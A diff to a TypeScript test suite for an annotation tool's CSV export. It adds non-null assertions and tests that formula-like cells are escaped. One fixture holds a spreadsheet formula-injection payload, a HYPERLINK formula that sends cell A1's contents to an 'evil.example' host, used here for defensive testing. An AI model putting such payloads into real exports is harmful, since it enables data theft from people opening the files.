@@ -67,12 +67,12 @@ describe('CSV export', () => {
         quote_id: a.id,
         document_id: doc.id,
         document_title: doc.title,
-        quote: a.target.quote.exact,
+        quote: a.target.quote!.exact,
         tags: row.tags,
         comment: a.comment,
         color: a.color,
-        start: String(a.target.position.start),
-        end: String(a.target.position.end),
+        start: String(a.target.position!.start),
+        end: String(a.target.position!.end),
         page: '',
         created: a.createdAt,
         updated: a.updatedAt,
@@ -128,16 +128,16 @@ describe('CSV export', () => {
 
   it('keeps spreadsheets from running a quote as a formula, unless asked for cells as stored', () => {
     const data = exportFixture();
-    data.annotations[0]!.target.quote.exact = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    data.annotations[0]!.target.quote!.exact = '=HYPERLINK("http://evil.example/?"&A1,"click")';
     data.annotations[1]!.comment = '-20 years, he said';
     const safe = readBack(exportCsv({ kind: 'notebook' }, data));
     expect(safe[0]!.quote).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
     expect(safe[1]!.comment).toBe(`'-20 years, he said`);
-    expect(safe[2]!.quote).toBe(data.annotations[2]!.target.quote.exact);
+    expect(safe[2]!.quote).toBe(data.annotations[2]!.target.quote!.exact);
     const raw = readBack(
       exportCsv({ kind: 'notebook' }, data, { ...options, csvEscapeFormulas: false }),
     );
-    expect(raw[0]!.quote).toBe(data.annotations[0]!.target.quote.exact);
+    expect(raw[0]!.quote).toBe(data.annotations[0]!.target.quote!.exact);
     expect(raw[1]!.comment).toBe('-20 years, he said');
   });
 
